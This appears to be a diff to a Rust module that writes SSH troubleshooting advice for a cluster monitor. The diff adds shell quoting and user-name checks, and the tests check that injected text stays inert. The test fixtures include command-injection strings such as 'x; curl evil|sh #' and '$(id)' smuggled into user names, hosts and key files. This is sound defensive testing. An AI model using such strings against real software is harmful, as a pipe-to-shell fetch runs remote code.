@@ -1,19 +1,34 @@
 //! What to do about a fault, with the names of this very node filled in.
 //!
-//! A remedy is a line or more, of which one is enough unless it says otherwise. What stands behind the last colon of
-//! a line is literal: a command as it can be typed, or, indented below it, the lines that go into a file.
+//! A remedy is a line or more, of which one is enough; a line that begins with "and" goes with the one above it. A
+//! command stands behind the last colon of its line and can be typed as it is; indented lines go into a file. So no
+//! words of a node stand there, and names that a shell could take for more are quoted.
 
+use std::borrow::Cow;
 use std::collections::BTreeMap;
+use std::fs::File;
+use std::io::Read;
+use std::path::Path;
 
-use crate::model::{self, FaultKind, clean};
+use crate::model::{self, FaultKind};
 use crate::transport::{Fault, KeyFlaw, Origin, Reach, Step, Target};
 
 /// Knows a node well enough to name files, lines and commands.
 #[derive(Clone, Debug)]
 pub(super) struct Advice {
-    /// As typed.
+    /// As typed, which gtop takes.
     node: String,
-    options: BTreeMap<&'static str, (String, Option<String>)>,
+    /// The host part alone.
+    host: String,
+    /// What ssh takes.
+    place: String,
+    options: BTreeMap<&'static str, (Vec<String>, Option<String>)>,
+}
+
+/// The public half of a key that was shown.
+struct PublicKey {
+    file: String,
+    kind: Option<String>,
 }
 
 /// What nologin prints in place of a shell.
@@ -24,6 +39,13 @@ const EXPIRED: &str = "password has expired";
 
 /// What the PAM of Linux says of an account that ended.
 const ACCOUNT_EXPIRED: &str = "account has expired";
+
+/// The unit is called so by most, and otherwise by Debian and Ubuntu.
+const RELOAD: &str = "systemctl reload sshd || systemctl reload ssh";
+const START: &str = "systemctl start sshd || systemctl start ssh";
+
+/// Most that is read of a file with a public key; large certificates have a few thousand bytes.
+const MOST_OF_A_KEY: u64 = 16 * 1024;
 
 /// Returns whether somebody without a key may log in.
 fn can_log_in(offers: &[String]) -> bool {
@@ -36,29 +58,132 @@ fn has_agent() -> bool {
     socket.is_some_and(|socket| std::os::unix::net::UnixStream::connect(socket).is_ok())
 }
 
+/// Writes a word so that a shell takes it as it is; a home at its beginning stays one.
+pub(super) fn shell(word: &str) -> Cow<'_, str> {
+    let is_plain =
+        |text: &str| text.chars().all(|c| c.is_ascii_alphanumeric() || "._/~+-@:".contains(c));
+    if !word.is_empty() && is_plain(word) {
+        return word.into();
+    }
+    let quoted = |text: &str| format!("'{}'", text.replace('\'', r"'\''"));
+    match word.split_once('/') {
+        Some((home, rest)) if home.starts_with('~') && is_plain(home) => {
+            format!("{home}/{}", quoted(rest)).into()
+        }
+        _ => quoted(word).into(),
+    }
+}
+
+/// The same for a file.
+fn shell_path(file: &Path) -> String {
+    shell(&file.to_string_lossy()).into_owned()
+}
+
+/// Returns whether a name can stand in a command of the administrator's, behind a `~` too. Such names come from
+/// what ssh printed as well, where anybody may have written.
+fn is_user(name: &str) -> bool {
+    let is_plain = name.chars().all(|c| c.is_ascii_alphanumeric() || "._-+@".contains(c));
+    // A shell takes ~+, ~- and ~1 for folders of its own.
+    let has_letter = name.contains(|c: char| c.is_ascii_alphabetic());
+    is_plain && has_letter && name.len() <= 255 && !name.starts_with(['-', '+'])
+}
+
+/// Returns the kind of key to accept: not one whose signatures are made with SHA-1.
+fn accepted_kind(kind: &str) -> &str {
+    if kind == "ssh-rsa" { "rsa-sha2-512" } else { kind }
+}
+
+/// Returns the words by which ssh knows a host.
+fn place(user: Option<&str>, host: &str, port: Option<u16>) -> String {
+    let port = port.map(|port| format!("-p {port} ")).unwrap_or_default();
+    let user = user.map(|user| format!("{}@", shell(user))).unwrap_or_default();
+    format!("{port}{user}{}", shell(host))
+}
+
+impl PublicKey {
+    /// Reads a public key, by its name or by that of its private half.
+    fn read(file: &str) -> Option<Self> {
+        let file = format!("{}.pub", file.strip_suffix(".pub").unwrap_or(file));
+        // Opening anything else may never return.
+        if !std::fs::metadata(&file).ok()?.is_file() {
+            return None;
+        }
+        let mut text = String::new();
+        File::open(&file).ok()?.take(MOST_OF_A_KEY).read_to_string(&mut text).ok()?;
+        let is_kind = |word: &&str| {
+            word.chars().all(|c| c.is_ascii_alphanumeric() || "-@.".contains(c)) && word.len() <= 64
+        };
+        let kind = text.split_whitespace().next().filter(is_kind).map(ToOwned::to_owned);
+        Some(Self { file, kind })
+    }
+}
+
 impl Advice {
     pub(super) fn about(target: &Target) -> Self {
-        let node = match &target.reach {
-            Reach::Ssh(_) => target.name.host().to_owned(),
-            Reach::Local => "this machine".to_owned(),
+        let node = target.name.host().to_owned();
+        match &target.reach {
+            Reach::Ssh(ssh) => Self {
+                node,
+                host: ssh.host.clone(),
+                place: place(ssh.user.as_deref(), &ssh.host, ssh.port),
+                options: BTreeMap::new(),
+            },
+            Reach::Local => Self::named("this machine"),
+        }
+    }
+
+    fn named(name: &str) -> Self {
+        Self {
+            node: name.to_owned(),
+            host: name.to_owned(),
+            place: name.to_owned(),
+            options: BTreeMap::new(),
+        }
+    }
+
+    /// Returns the same for a host on the way, of which nothing is known but its name.
+    fn about_gateway(gateway: &str) -> Self {
+        let name = gateway.trim_start_matches("ssh://");
+        let (user, name) =
+            name.rsplit_once('@').map_or((None, name), |(user, name)| (Some(user), name));
+        let (host, port) = match name.rsplit_once(':').map(|(host, port)| (host, port.parse())) {
+            // An address of IPv6 has more of them.
+            Some((host, Ok(port))) if !host.contains(':') || host.ends_with(']') => {
+                (host, Some(port))
+            }
+            _ => (name, None),
         };
-        Self { node, options: BTreeMap::new() }
+        let host = host.trim_start_matches('[').trim_end_matches(']');
+        let place = place(user, host, port);
+        Self { host: host.to_owned(), place, ..Self::named(gateway) }
     }
 
     /// Remembers an option in effect, and the line that set it.
-    pub(super) fn know(&mut self, name: &'static str, value: &str, origin: Option<&Origin>) {
-        self.options.insert(name, (value.to_owned(), origin.map(ToString::to_string)));
+    pub(super) fn know(&mut self, name: &'static str, values: &[String], origin: Option<&Origin>) {
+        self.options.insert(name, (values.to_vec(), origin.map(ToString::to_string)));
+    }
+
+    fn values(&self, name: &str) -> &[String] {
+        self.options.get(name).map_or(&[], |(values, _)| values)
     }
 
     fn value(&self, name: &str) -> &str {
-        self.options.get(name).map_or("", |(value, _)| value)
+        self.values(name).first().map_or("", String::as_str)
+    }
+
+    /// Returns the user there, if a command can name one: a command that names none is about root, who types it.
+    /// What the configuration says is certain; what a fault names may be what a node made ssh print.
+    fn user<'a>(&'a self, of_fault: &'a str) -> Option<&'a str> {
+        let configured = self.value("User");
+        let user = if configured.is_empty() { of_fault } else { configured };
+        is_user(user).then_some(user)
     }
 
     /// Says where to change an option: the line that sets it, or the file to add it to.
     fn correct(&self, name: &str) -> String {
         match self.options.get(name).and_then(|(_, origin)| origin.as_deref()) {
             Some(origin) => format!("correct {name} in {origin}"),
-            None => format!("set {name} for {} in ~/.ssh/config", self.node),
+            None => format!("set {name} for {} in ~/.ssh/config", self.host),
         }
     }
 
@@ -68,74 +193,91 @@ impl Advice {
         let lines = lines.join("\n      ");
         format!(
             "put first in ~/.ssh/config{then}:\n    Host {}\n      {lines}\n    Host *",
-            self.node
+            self.host
         )
     }
 
     /// Says what an administrator adds to the configuration of sshd; what comes first there counts.
     fn sshd_config(&self, line: &str) -> String {
         self.as_root(&format!(
-            "put first in /etc/ssh/sshd_config, then run systemctl reload sshd:\n    {line}"
+            "put first in /etc/ssh/sshd_config and in no Match block, then run {RELOAD}:\n    {line}"
         ))
     }
 
     fn as_root(&self, what: &str) -> String {
-        format!("as root on {}: {what}", self.node)
-    }
-
-    /// Returns the same for a host on the way, of which nothing is known but its name.
-    fn about_gateway(gateway: &str) -> Self {
-        Self { node: gateway.to_owned(), options: BTreeMap::new() }
+        format!("as root on {}: {what}", self.host)
     }
 
     /// How to get a key accepted.
     fn copy_id(&self) -> String {
-        let key = self.value("IdentityFile").split_whitespace().next().unwrap_or("");
         // Several are the defaults, and which of them exists is not known.
         let file = if self.options.get("IdentityFile").is_some_and(|(_, origin)| origin.is_some()) {
-            format!("-i {key} ")
+            format!("-i {} ", shell(self.value("IdentityFile")))
         } else {
             String::new()
         };
-        format!("ssh-copy-id {file}{}", self.node)
+        format!("ssh-copy-id {file}{}", self.place)
     }
 
     /// Asks for what nobody but the administrator can do about a key that is not there yet.
-    fn add_key(&self, file: &str) -> String {
-        let user = self.value("User");
-        format!("ask the administrator to add {file}.pub to ~{user}/.ssh/authorized_keys there")
+    fn add_key(&self, key: &str, user: &str) -> String {
+        let place = match self.user(user) {
+            Some(user) => format!("~{user}/.ssh/authorized_keys there"),
+            None => "the authorized_keys of your account there".to_owned(),
+        };
+        format!("ask the administrator to add {key} to {place}")
     }
 
     /// How a new key is made and gets there: by who can log in without it, or by others.
-    fn new_key(&self, offers: &[String]) -> String {
+    fn new_key(&self, user: &str, offers: &[String]) -> String {
         let make = "ssh-keygen -t ed25519";
         if can_log_in(offers) {
             return format!("make a key and give it to the node: {make} && {}", self.copy_id());
         }
-        format!("{}, once it is made: {make}", self.add_key("~/.ssh/id_ed25519"))
+        format!("{}, once it is made: {make}", self.add_key("~/.ssh/id_ed25519.pub", user))
+    }
+
+    /// Returns the public key of what was shown first of the configured files. What else was tried are words, and
+    /// those of the node among them.
+    fn public_key(&self, tried: &[String]) -> Option<PublicKey> {
+        let home = std::env::var("HOME").unwrap_or_default();
+        let files = self.values("IdentityFile").iter().map(|file| match file.strip_prefix("~/") {
+            Some(rest) => format!("{home}/{rest}"),
+            None => file.clone(),
+        });
+        let files: Vec<String> = files.filter(|file| file.starts_with('/')).collect();
+        tried
+            .iter()
+            .map(|what| what.trim_end_matches(" in the agent"))
+            .filter(|what| files.iter().any(|file| file == what))
+            .find_map(PublicKey::read)
     }
 
     /// What to do about a key that was refused, which a node never explains but in its log.
-    fn known_key(&self, offers: &[String], tried: &[String]) -> String {
-        let shown = tried.iter().find(|what| !what.starts_with("not "));
-        let file = shown.map(|what| what.trim_end_matches(" in the agent"));
-        let give = match file {
-            Some(file) if !can_log_in(offers) => self.add_key(file),
-            _ => format!("give the node your key: {}", self.copy_id()),
+    fn known_key(&self, user: &str, offers: &[String], tried: &[String]) -> String {
+        let key = self.public_key(tried);
+        let give = if can_log_in(offers) {
+            format!("give the node your key: {}", self.copy_id())
+        } else {
+            self.add_key(key.as_ref().map_or("your public key", |key| &key.file), user)
         };
         let mut remedy = format!("{give}\nor {}", self.correct("User"));
-        let public = file.and_then(|file| std::fs::read_to_string(format!("{file}.pub")).ok());
-        let kind = public.as_deref().and_then(|key| key.split_whitespace().next());
-        let line = kind.map(|kind| format!("PubkeyAcceptedAlgorithms +{}", clean(kind, 64)));
-        let accept = line.map(|line| self.sshd_config(&line));
-        let user = self.value("User");
-        let open =
-            self.as_root(&format!("chmod go-w ~{user} ~{user}/.ssh ~{user}/.ssh/authorized_keys"));
-        let shell = self.give_shell();
+        let accept = key.and_then(|key| key.kind).map(|kind| {
+            let kind = accepted_kind(&kind);
+            self.as_root(&format!(
+                "add {kind} to PubkeyAcceptedAlgorithms in /etc/ssh/sshd_config, then: {RELOAD}"
+            ))
+        });
+        // As the user: what lies there is the user's, and may lead anywhere.
+        let open = self.user(user).map(|user| {
+            self.as_root(&format!(
+                "runuser -u {user} -- chmod go-w ~{user} ~{user}/.ssh ~{user}/.ssh/authorized_keys"
+            ))
+        });
         for (says, what) in [
-            ("not in PubkeyAcceptedAlgorithms", accept.as_deref()),
-            ("bad ownership or modes", Some(&open)),
-            ("because shell", Some(&shell)),
+            ("not in PubkeyAcceptedAlgorithms", accept),
+            ("bad ownership or modes", open),
+            ("because shell", self.give_shell(user)),
         ] {
             remedy.extend(what.map(|what| format!("\nif its sshd logs \"{says}\", {what}")));
         }
@@ -144,24 +286,24 @@ impl Advice {
 
     #[expect(clippy::too_many_lines, reason = "a line or two for each fault")]
     pub(super) fn of_transport(&self, fault: &Fault) -> String {
-        let Self { node, .. } = self;
+        let Self { node, place, .. } = self;
         match fault {
             Fault::NameNotFound { host, .. } => {
-                let name = host.as_deref().unwrap_or(node);
-                format!("check the spelling (getent hosts {name}), or {}", self.correct("HostName"))
+                let name = host.as_deref().unwrap_or(&self.host);
+                format!("check the spelling (getent hosts {}), or {}", shell(name), self.correct("HostName"))
             }
             Fault::Unreachable { .. } => {
-                format!("see whether it is up (ping {}), and on this network", self.host())
+                format!("see whether it is up (ping {}), and on this network", self.address())
             }
             Fault::FileLimit => FaultKind::FileLimit.remedy().to_owned(),
             Fault::Refused { port } => format!(
                 "{}\nor {} if it is not {port}",
-                self.as_root("systemctl start sshd"),
+                self.as_root(START),
                 self.correct("Port")
             ),
             Fault::TimedOut { step, .. } => self.of_timeout(*step),
             Fault::NotSsh { .. } => format!(
-                "what listens there is no SSH server, or refuses new connections: {}",
+                "what listens there is no SSH server, or refuses new connections; if the port is wrong, {}",
                 self.correct("Port")
             ),
             Fault::NoCommonAlgorithm { kind, .. } => {
@@ -182,15 +324,17 @@ impl Advice {
                 }
             }
             Fault::HostKeyUnknown { .. } => {
-                format!("compare the fingerprint with the administrator's, then: gtop trust {node}")
+                format!("compare the fingerprint with the administrator's, then: gtop trust {}", shell(node))
             }
             Fault::HostCertificateRefused { .. } => format!(
-                "have the certificate signed anew, or compare the fingerprint, then: gtop trust {node}"
+                "have the certificate signed anew, or compare the fingerprint, then: gtop trust {}",
+                shell(node)
             ),
             Fault::HostKeyChanged(change) => format!(
-                "ask the administrator; if the node was set up anew: ssh-keygen -f {} -R '{}' && gtop trust {node}",
-                change.file.display(),
-                change.host
+                "ask the administrator; if the node was set up anew: ssh-keygen -f {} -R {} && gtop trust {}",
+                shell_path(&change.file),
+                shell(&change.host),
+                shell(node)
             ),
             Fault::HostKeyRevoked { file, line, .. } => {
                 let line = line.map_or_else(String::new, |line| format!(":{line}"));
@@ -199,13 +343,13 @@ impl Advice {
                     file.display()
                 )
             }
-            Fault::AuthenticationRefused { offers, .. } if fault.had_no_key() => {
-                self.new_key(offers)
+            Fault::AuthenticationRefused { user, offers, .. } if fault.had_no_key() => {
+                self.new_key(user, offers)
             }
-            Fault::AuthenticationRefused { offers, tried, .. }
+            Fault::AuthenticationRefused { user, offers, tried }
                 if offers.iter().any(|offer| offer == "publickey") =>
             {
-                self.known_key(offers, tried)
+                self.known_key(user, offers, tried)
             }
             Fault::AuthenticationRefused { .. } => {
                 format!("{}\nor {}", self.sshd_config("PubkeyAuthentication yes"), self.master())
@@ -223,20 +367,22 @@ impl Advice {
                 self.master()
             ),
             Fault::Unanswered { .. } => format!(
-                "log in with a key, or answer from a terminal: gtop doctor {node}\nor {}",
+                "log in with a key, or answer from a terminal: gtop doctor {}\nor {}",
+                shell(node),
                 self.master()
             ),
-            Fault::KeyUnusable { file, flaw: flaw @ KeyFlaw::OpenToOthers, .. } => {
-                flaw.remedy(file)
+            Fault::KeyUnusable { file, flaw: KeyFlaw::OpenToOthers, .. } => {
+                format!("chmod 600 {}", shell_path(file))
             }
             Fault::KeyUnusable { flaw: KeyFlaw::LeftOut(kind), .. } => {
+                let kind = accepted_kind(kind);
                 self.ssh_config("", &[&format!("PubkeyAcceptedAlgorithms +{kind}")])
             }
             Fault::KeyEncrypted { file } => {
                 let agent = if has_agent() { "" } else { "eval $(ssh-agent) && " };
                 format!(
                     "start gtop from a terminal, or load the key: {agent}ssh-add {}",
-                    file.display()
+                    shell_path(file)
                 )
             }
             Fault::AgentUnreachable { .. } => {
@@ -253,38 +399,43 @@ impl Advice {
             }
             Fault::ByWayOf { gateway, fault } => Self::about_gateway(gateway).of_transport(fault),
             Fault::GatewayCannotReach { gateway, .. } => format!(
-                "see from there whether it answers: ssh {gateway} nc -zv {} {}",
-                self.host(),
+                "see from there whether it answers: ssh {} nc -zv {} {}",
+                Self::about_gateway(gateway).place,
+                self.address(),
                 self.port()
             ),
             Fault::GatewayForbids { gateway, .. } => format!(
                 "{}\nand add {}:{} to PermitOpen if there is one",
                 Self::about_gateway(gateway).sshd_config("AllowTcpForwarding yes"),
-                self.host(),
+                self.address(),
                 self.port()
             ),
             Fault::ProxyCommandFailed { .. } => {
                 format!("run it by hand, and {}", self.correct("ProxyCommand"))
             }
             Fault::SshProgram { .. } | Fault::Broken { .. } | Fault::SessionLost { .. } => {
-                format!("try by hand: ssh -v {node} true")
+                format!("try by hand: ssh -v {place} true")
             }
             Fault::AccountRefused { user, says } if says.contains(ACCOUNT_EXPIRED) => {
-                self.as_root(&format!("chage -E -1 {user}"))
+                match self.user(user) {
+                    Some(user) => self.as_root(&format!("chage -E -1 {user}")),
+                    None => "ask the administrator of the node to extend the account".to_owned(),
+                }
             }
             Fault::AccountRefused { .. } => format!(
                 "ask the administrator of the node about its words\nif they stand in a file, and it is over, {}",
                 self.as_root("rm -f /etc/nologin /run/nologin")
             ),
             Fault::NoJob { .. } => format!(
-                "submit a job to this node: salloc -w {node}\nif one of yours runs there: gtop --slurm --transport srun"
+                "submit a job to this node: salloc -w {}\nif one of yours runs there: gtop --slurm --transport srun",
+                shell(&self.host)
             ),
             Fault::ExecFailed { .. } => {
                 "run the command by hand; it must pass standard input on to a shell on the node, \
                  or take what to run as {command}"
                     .to_owned()
             }
-            Fault::BadConfiguration { .. } => format!("correct it; ssh -G {node} reads it too"),
+            Fault::BadConfiguration { .. } => format!("correct it; ssh -G {place} reads it too"),
             Fault::Step { cause, .. } => cause.remedy().to_owned(),
             Fault::ProgramNotFound { program, .. } => {
                 format!(
@@ -295,17 +446,18 @@ impl Advice {
     }
 
     fn of_timeout(&self, step: Step) -> String {
-        let node = &self.node;
         match step {
-            Step::Configuration => format!("see whether ssh -G {node} hangs; a Match exec may"),
-            Step::Name => format!("the name service hangs: getent hosts {}", self.host()),
+            Step::Configuration => {
+                format!("see whether ssh -G {} hangs; a Match exec may", self.place)
+            }
+            Step::Name => format!("the name service hangs: getent hosts {}", self.address()),
             Step::Connection => format!(
                 "see whether it is up (ping {}) and no firewall drops port {}; or --connect-timeout",
-                self.host(),
+                self.address(),
                 self.port()
             ),
             Step::Greeting => format!(
-                "something listens and never speaks: {}, or look at sshd there",
+                "look at sshd there, which listens and never speaks; if it is not sshd, {}",
                 self.correct("Port")
             ),
             Step::KeyExchange => {
@@ -319,26 +471,26 @@ impl Advice {
     }
 
     fn by_program(&self) -> String {
-        format!("let the ssh program do it: gtop --transport ssh {}", self.node)
+        format!("let the ssh program do it: gtop --transport ssh {}", shell(&self.node))
     }
 
-    fn give_shell(&self) -> String {
-        self.as_root(&format!("usermod -s /bin/sh {}", self.value("User")))
+    fn give_shell(&self, user: &str) -> Option<String> {
+        Some(self.as_root(&format!("usermod -s /bin/sh {}", self.user(user)?)))
     }
 
     /// How to lend gtop a connection that a person opened.
     fn master(&self) -> String {
-        let node = &self.node;
+        let place = &self.place;
         if self.value("ControlPath").is_empty() {
             return self
-                .ssh_config(&format!(", then run ssh -fNM {node}"), &["ControlPath ~/.ssh/%C"]);
+                .ssh_config(&format!(", then run ssh -fNM {place}"), &["ControlPath ~/.ssh/%C"]);
         }
-        format!("open a master connection: ssh -fNM {node}")
+        format!("open a master connection: ssh -fNM {place}")
     }
 
-    fn host(&self) -> &str {
+    fn address(&self) -> Cow<'_, str> {
         let host = self.value("HostName");
-        if host.is_empty() { &self.node } else { host }
+        shell(if host.is_empty() { &self.host } else { host })
     }
 
     fn port(&self) -> &str {
@@ -347,33 +499,40 @@ impl Advice {
     }
 
     pub(super) fn of_model(&self, fault: &model::Fault, has_noise: bool) -> String {
-        let node = &self.node;
+        let Self { node, place, .. } = self;
         match fault.kind {
             // What the node says of the account is the reason, whatever else its login files do.
-            FaultKind::NoInterpreter if fault.detail.contains(NO_SHELL) => self.give_shell(),
+            FaultKind::NoInterpreter if fault.detail.contains(NO_SHELL) => {
+                let asked = || "ask the administrator for a login shell there".to_owned();
+                self.give_shell("").unwrap_or_else(asked)
+            }
             FaultKind::NoInterpreter if fault.detail.contains(EXPIRED) => {
-                format!("log in and set a new password: ssh -t {node}")
+                format!("log in and set a new password: ssh -t {place}")
             }
             FaultKind::NoInterpreter | FaultKind::TimedOut if !fault.particulars.is_empty() => {
-                fault.remedy().replace("HOST", node)
+                fault.remedy().replace("HOST", place)
             }
             FaultKind::NoInterpreter if has_noise => format!(
                 "something runs in place of gtop's command: a login file that ends or starts another program \
                  (~/.bashrc, ~/.profile: do so only when interactive), or a forced command; \
-                 try ssh {node} /bin/sh -c true"
+                 try: ssh {place} /bin/sh -c true"
             ),
-            FaultKind::NoInterpreter => format!(
-                "the login shell must run /bin/sh: look for exit or exec in ~/.bashrc and for a forced \
-                 command; try ssh {node} /bin/sh -c true\nif it is /bin/false, {}",
-                self.give_shell()
-            ),
+            FaultKind::NoInterpreter => {
+                let given =
+                    self.give_shell("").map(|what| format!("\nif it is /bin/false, {what}"));
+                format!(
+                    "the login shell must run /bin/sh; look for exit or exec in ~/.bashrc and for a forced \
+                     command, and try: ssh {place} /bin/sh -c true{}",
+                    given.unwrap_or_default()
+                )
+            }
+            FaultKind::HostKeyUnknown => fault.kind.remedy().replace("HOST", &shell(node)),
             kind @ (FaultKind::NameNotFound
             | FaultKind::Unreachable
             | FaultKind::FileLimit
             | FaultKind::Refused
             | FaultKind::TimedOut
             | FaultKind::KeyExchange
-            | FaultKind::HostKeyUnknown
             | FaultKind::HostKeyChanged
             | FaultKind::HostKeyRevoked
             | FaultKind::AuthenticationRefused
@@ -386,7 +545,236 @@ impl Advice {
             | FaultKind::NoJob
             | FaultKind::NoGreeting
             | FaultKind::AccountRefused
-            | FaultKind::SessionLost) => kind.remedy().replace("HOST", node),
+            | FaultKind::SessionLost) => kind.remedy().replace("HOST", place),
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::model::NodeName;
+    use crate::transport::{Profile, SshTarget};
+
+    /// What would be typed, were it believed.
+    const HOSTILE: &str = "x; curl evil|sh #";
+
+    fn advice(
+        typed: &str,
+        user: Option<&str>,
+        port: Option<u16>,
+        configured: Option<&str>,
+    ) -> Advice {
+        let ssh = SshTarget {
+            host: "gpu11".to_owned(),
+            user: user.map(ToOwned::to_owned),
+            port,
+            profile: Profile::System,
+        };
+        let target = Target { name: NodeName::new(typed).unwrap(), reach: Reach::Ssh(ssh) };
+        let mut advice = Advice::about(&target);
+        if let Some(user) = configured {
+            advice.know("User", &[user.to_owned()], None);
+        }
+        advice
+    }
+
+    fn refused(user: &str, tried: &[&str]) -> Fault {
+        let tried = tried.iter().map(|&what| what.to_owned()).collect();
+        Fault::AuthenticationRefused {
+            user: user.to_owned(),
+            offers: vec!["publickey".to_owned()],
+            tried,
+        }
+    }
+
+    #[test]
+    fn no_command_is_about_the_account_of_who_types_it() {
+        let faults = |user: &str| {
+            let says = "Your account has expired".to_owned();
+            [refused(user, &["id"]), Fault::AccountRefused { user: user.to_owned(), says }]
+        };
+        let named = advice("gpu11", None, None, None);
+        let known = advice("gpu11", None, None, Some("ada"));
+        for nobody in ["", HOSTILE, "-a", "ada bob", "$(id)", "~", "a/../b", "a:b", "1"] {
+            for fault in faults(nobody) {
+                let at_gateway = Fault::ByWayOf {
+                    gateway: "bastion".to_owned(),
+                    fault: Box::new(fault.clone()),
+                };
+                for text in [named.of_transport(&fault), known.of_transport(&at_gateway)] {
+                    for word in
+                        ["as root", "~/.ssh/authorized_keys", "usermod", "go-w", "chage", "curl"]
+                    {
+                        assert!(!text.contains(word), "{word} in {text}");
+                    }
+                    assert!(text.contains("ask the administrator"), "{text}");
+                }
+            }
+        }
+        for fault in faults("ada") {
+            let at_gateway =
+                Fault::ByWayOf { gateway: "bastion".to_owned(), fault: Box::new(fault.clone()) };
+            let text = named.of_transport(&at_gateway);
+            assert!(text.contains("as root on bastion: ") && text.contains(" ada"), "{text}");
+        }
+        let text = known.of_transport(&refused("eve", &["id"]));
+        assert!(text.contains("usermod -s /bin/sh ada") && !text.contains("eve"), "{text}");
+        let open = "runuser -u ada -- chmod go-w ~ada ~ada/.ssh ~ada/.ssh/authorized_keys";
+        assert!(text.contains(&format!("\", as root on gpu11: {open}")), "{text}");
+        let fault = model::Fault::new(FaultKind::NoInterpreter, NO_SHELL);
+        assert!(!named.of_model(&fault, false).contains("usermod"));
+        assert!(known.of_model(&fault, false).ends_with(": usermod -s /bin/sh ada"));
+        let fault = model::Fault::new(FaultKind::NoInterpreter, "");
+        assert!(!named.of_model(&fault, false).contains("usermod"));
+    }
+
+    #[test]
+    fn nothing_but_a_configured_file_is_named_as_a_key() {
+        let folder = tempfile::tempdir().unwrap();
+        let file = |name: &str| folder.path().join(name).display().to_string();
+        std::fs::write(file("id.pub"), "ssh-rsa AAAA ada\n").unwrap();
+        std::fs::create_dir(file("odd.pub")).unwrap();
+        let mut advice = advice("gpu11", None, None, Some("ada"));
+        let files = [file("id"), file("odd"), file("none"), "id".to_owned()];
+        advice.know("IdentityFile", &files, None);
+        let add = |key: &str| {
+            format!("ask the administrator to add {key} to ~ada/.ssh/authorized_keys there\n")
+        };
+        let said = format!("until the node said: {HOSTILE}");
+        for tried in [
+            "what the ssh program has",
+            "agent SHA256:abc",
+            &said,
+            &format!("{} certificate 'x', expired", file("id")),
+            &format!("not {} (encrypted)", file("id")),
+            &file("other"),
+            &file("odd"),
+            &file("none"),
+            "id",
+        ] {
+            let text = advice.of_transport(&refused("ada", &[tried]));
+            assert!(text.starts_with(&add("your public key")), "{text}");
+            assert!(!text.contains("curl") && !text.contains("add ssh-rsa"), "{text}");
+        }
+        for (files, tried) in [
+            ([file("id")], file("id")),
+            ([file("id")], format!("{} in the agent", file("id"))),
+            ([file("id.pub")], file("id.pub")),
+        ] {
+            advice.know("IdentityFile", &files, None);
+            let text = advice.of_transport(&refused("ada", &["what the ssh program has", &tried]));
+            assert!(text.starts_with(&add(&file("id.pub"))), "{text}");
+            // A list of the site's stays, and SHA-1 stays off.
+            let accept = "as root on gpu11: add rsa-sha2-512 to PubkeyAcceptedAlgorithms in /etc/ssh/sshd_config, then: ";
+            assert!(text.contains(&format!("{accept}{RELOAD}\n")), "{text}");
+        }
+        std::fs::write(file("id.pub"), format!("{}\n", HOSTILE.replace(' ', ""))).unwrap();
+        let text = advice.of_transport(&refused("ada", &[&file("id.pub")]));
+        assert!(!text.contains("curl") && !text.contains("to PubkeyAccepted"), "{text}");
+    }
+
+    #[test]
+    fn a_kind_of_key_that_is_left_out_is_not_let_in_with_sha1() {
+        let flaw = KeyFlaw::LeftOut("ssh-rsa".to_owned());
+        let fault = Fault::KeyUnusable { file: "/k".into(), flaw, offers: Vec::new() };
+        let text = advice("gpu11", None, None, None).of_transport(&fault);
+        assert!(text.contains("\n      PubkeyAcceptedAlgorithms +rsa-sha2-512\n"), "{text}");
+    }
+
+    #[test]
+    fn each_program_gets_the_node_in_its_own_words() {
+        let typed = advice("ada@gpu11:2222", Some("ada"), Some(2222), Some("ada"));
+        let none = || "x".to_owned();
+        for (fault, expected) in [
+            (Fault::NoJob { says: none() }, "salloc -w gpu11\n"),
+            (Fault::SessionLost { why: none() }, "ssh -v -p 2222 ada@gpu11 true"),
+            (Fault::PasswordOnly { user: none() }, "ssh-copy-id -p 2222 ada@gpu11\n"),
+            (Fault::PasswordOnly { user: none() }, "    Host gpu11\n"),
+            (
+                Fault::ChannelRefused { why: none() },
+                "as root on gpu11: put first in /etc/ssh/sshd_config and in no Match block, then run systemctl reload sshd || systemctl reload ssh:\n",
+            ),
+            (
+                Fault::Refused { port: 22 },
+                "as root on gpu11: systemctl start sshd || systemctl start ssh\n",
+            ),
+            (Fault::OnlySsh { options: none() }, "gtop --transport ssh ada@gpu11:2222"),
+            (
+                Fault::GatewayCannotReach { gateway: "eve@bastion:2200".to_owned(), why: none() },
+                "ssh -p 2200 eve@bastion nc -zv gpu11 22",
+            ),
+            (
+                Fault::GatewayForbids {
+                    gateway: "ssh://eve@[fe80::1]:2200".to_owned(),
+                    why: none(),
+                },
+                "as root on fe80::1: ",
+            ),
+        ] {
+            let text = typed.of_transport(&fault);
+            assert!(text.contains(expected), "{expected} in {text}");
+        }
+        for (kind, expected) in [
+            (FaultKind::HostKeyUnknown, "gtop trust ada@gpu11:2222"),
+            (FaultKind::BadReply, "ssh -p 2222 ada@gpu11 true"),
+        ] {
+            let text = typed.of_model(&model::Fault::new(kind, ""), false);
+            assert!(text.ends_with(expected), "{expected} in {text}");
+        }
+    }
+
+    #[test]
+    fn what_a_shell_could_take_for_more_is_quoted() {
+        for (word, expected) in [
+            ("/home/ada/.ssh/id_ed25519", "/home/ada/.ssh/id_ed25519"),
+            ("/k/my key", "'/k/my key'"),
+            ("~/.ssh/my key", "~/'.ssh/my key'"),
+            ("~$(id)/x", "'~$(id)/x'"),
+            ("it's", r"'it'\''s'"),
+            ("gpu[01-02]", "'gpu[01-02]'"),
+            ("", "''"),
+        ] {
+            assert_eq!(shell(word), expected);
+        }
+        let mut advice = advice("gpu11", None, None, None);
+        let file = Path::new("/k/my $(id)");
+        let open = Fault::KeyUnusable {
+            file: file.into(),
+            flaw: KeyFlaw::OpenToOthers,
+            offers: Vec::new(),
+        };
+        assert_eq!(advice.of_transport(&open), "chmod 600 '/k/my $(id)'");
+        let locked = advice.of_transport(&Fault::KeyEncrypted { file: file.into() });
+        assert!(locked.ends_with("ssh-add '/k/my $(id)'"), "{locked}");
+        let changed = Fault::HostKeyChanged(Box::new(crate::transport::HostKeyChange {
+            host: "'; curl evil".to_owned(),
+            file: file.into(),
+            line: 1,
+            known: String::new(),
+            algorithm: String::new(),
+            shown: String::new(),
+        }));
+        let text = advice.of_transport(&changed);
+        assert!(
+            text.contains(r"ssh-keygen -f '/k/my $(id)' -R ''\''; curl evil' && gtop"),
+            "{text}"
+        );
+        let origin = Origin { file: Path::new("/c").into(), line: 1 };
+        advice.know("IdentityFile", &["~/.ssh/my key".to_owned()], Some(&origin));
+        let text = advice.of_transport(&Fault::PasswordOnly { user: String::new() });
